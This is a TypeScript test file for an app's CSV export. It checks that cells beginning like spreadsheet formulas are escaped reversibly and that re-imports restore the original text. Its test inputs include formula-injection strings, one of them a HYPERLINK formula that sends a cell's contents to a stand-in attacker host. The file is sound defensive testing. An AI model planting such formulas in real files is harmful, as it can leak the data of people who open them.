import { expect, test } from 'bun:test'
import { useTestApp } from '../helpers/use-test-app'
import { createUser, type TestUser } from '../helpers/fixtures'
import { LIBRARIES, LIBRARY_FIELDS, type FieldDef } from '../../src/features/libraries/fields'
import { befriend, fetchArchive, insertLibraryItem, parseCsv, runJob, startExport } from './helpers'
import { comparableData, exportAll, importArchive } from '../import/helpers'

const t = useTestApp()

/** Text a spreadsheet would run, or that starts like the escape itself; and two that must stay as they are. */
const HOSTILE = [
  '=HYPERLINK("http://evil.test/?"&A1,"open")',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r\n=1+1',
  '\'=1+1',
  '\'\'',
  '=',
  'plain =1+1',
  'a-b',
]

/** The rule of the README and the archive's manifest, written out here as a reader of the file would apply it. */
const FORMULA_START = /^[=+\-@\t\r]/
const written = (text: string) => /^[=+\-@\t\r']/.test(text) ? `'${text}` : text
const unescape = (cell: string) => cell.startsWith('\'') ? cell.slice(1) : cell

/** The columns of each CSV that hold the user's text (docs/api/export.md §10.3). */
const TEXT_COLUMNS: Record<string, string[]> = {
  'clipboard.csv': ['Content'],
  'todos.csv': ['Title', 'Description', 'Category', 'Tags'],
  'music.csv': ['Title', 'Artist', 'Description'],
  'books.csv': ['Title', 'Author', 'Description'],
  'movies.csv': ['Title', 'Description'],
  'games.csv': ['Title', 'Developer', 'Publisher', 'Description'],
  'recipes.csv': ['Title', 'Description', 'Ingredients'],
  'quotes.csv': ['Quote', 'Author', 'Source'],
  'plants.csv': ['Name', 'Latin Name', 'Instructions'],
  'friends.csv': ['Name'],
}

/** A tag as the API keeps one: trimmed like every input. */
const asTag = (text: string) => text.trim()

/** An item of `library` whose every text field (and its one tag) is `text`. */
function hostileItem(library: (typeof LIBRARIES)[number], text: string, i: number): Record<string, unknown> {
  const data: Record<string, unknown> = {}
  for (const [key, def] of Object.entries(LIBRARY_FIELDS[library]) as [string, FieldDef][]) {
    // Read-only fields are the server's (a to-do's next_id holds an item id), never text a person wrote.
    if (def.readOnly) continue
    if (def.kind === 'string') data[key] = text
    if (def.kind === 'tags') data[key] = [asTag(text)]
    if (def.kind === 'url' && def.required) data[key] = `https://example.com/${library}/${i}`
  }
  return data
}

test('CSV text cells that would start a formula are escaped reversibly, and an import restores every string exactly', async () => {
  const alice = await createUser(t)
  const auth = { token: alice.token }
  for (const content of HOSTILE) {
    expect((await t.request('POST', '/api/v1/clipboard', { ...auth, body: { content } })).status).toBe(200)
    t.clock.advance(1000)
  }
  for (const library of LIBRARIES) {
    HOSTILE.forEach((text, i) => insertLibraryItem(t, alice, library, hostileItem(library, text, i), t.clock.now() + i))
  }
  for (const [path, body] of [
    ['weather-city', { city: HOSTILE[0], lat: 52.52, lon: 13.4 }],
    ['navigation', { navigation: { order: HOSTILE } }],
  ] as const) {
    expect((await t.request('PUT', `/api/v1/users/me/settings/${path}`, { ...auth, body })).status).toBe(200)
  }
  const friendName = new Map<string, string>()
  for (const name of HOSTILE) {
    const friend = await createUser(t, { name })
    await befriend(t, friend, alice)
    friendName.set(friend.id, name)
  }

  const id = await startExport(t, alice)
  await runJob(t)
  const archive = await fetchArchive(t, alice, id)

  // The issue's example, byte for byte: quoted for its comma and quotes, and a ' in front.
  const hyperlink = [...friendName].find(([, name]) => name === HOSTILE[0])![0]
  expect(archive.text('friends.csv')).toContain(`\r\n${hyperlink},"'=HYPERLINK(""http://evil.test/?""&A1,""open"")",`)

  // No cell of any CSV starts like a formula.
  const csvFiles = archive.names.filter((name) => name.endsWith('.csv'))
  // own trackers' names, activities, sports and notes: test/export/own-trackers.test.ts
  expect(csvFiles.sort()).toEqual([...Object.keys(TEXT_COLUMNS), 'check_ins.csv', 'trackers.csv', 'activities.csv', 'sports.csv'].sort())
  const formulaCells = csvFiles.flatMap((file) => parseCsv(archive.text(file)).flat().filter((cell) => FORMULA_START.test(cell)).map((cell) => `${file}: ${cell}`))
  expect(formulaCells).toEqual([])

  // Every text cell is the original with the rule applied, and dropping one leading ' gives the original back.
  for (const [file, columns] of Object.entries(TEXT_COLUMNS)) {
    const [header, ...rows] = parseCsv(archive.text(file))
    expect({ file, rows: rows.length }).toEqual({ file, rows: HOSTILE.length })
    rows.forEach((row, i) => {
      const original = file === 'friends.csv' ? friendName.get(row[0]!)! : HOSTILE[i]!
      for (const column of columns) {
        const text = column === 'Tags' ? asTag(original) : original
        const cell = row[header!.indexOf(column)]!
        expect({ file, column, cell }).toEqual({ file, column, cell: written(text) })
        expect(unescape(cell)).toBe(text)
      }
    })
  }
  expect(archive.json('manifest.json').readme).toEqual([expect.stringContaining('drop one leading \' from every cell that starts with one')])

  // data.json keeps every value as it was; an import into another account restores every string exactly.
  const bob = await createUser(t)
  const job = await importArchive(t, bob, archive.bytes, undefined, 'include')
  expect(job.counts.clipboard.imported).toBe(HOSTILE.length)
  for (const library of LIBRARIES) expect({ library, imported: job.counts[library].imported }).toEqual({ library, imported: HOSTILE.length })
  expect(job.counts.settings.imported).toBe(1)
  const clipboard = (await t.request('GET', '/api/v1/clipboard?per_page=100', { token: bob.token })).body.data
  expect(clipboard.map((entry: any) => entry.content).reverse()).toEqual(HOSTILE)
  // Settings as alice's account holds them (the settings endpoints trim nested strings on the way in).
  const settings = async (user: TestUser) => (await t.request('GET', '/api/v1/users/me', { token: user.token })).body.data.settings
  const { weather_city, navigation } = await settings(alice)
  expect(weather_city).toBe(HOSTILE[0])
  expect(JSON.parse(navigation).order).toContain('@SUM(A1:A2)')
  expect(await settings(bob)).toMatchObject({ weather_city, navigation })

  const { friends: _aliceFriends, ...before } = comparableData(archive.bytes)
  const { friends: bobFriends, ...after } = comparableData(await exportAll(t, bob))
  expect(bobFriends).toEqual([])
  expect(after).toEqual(before)
})
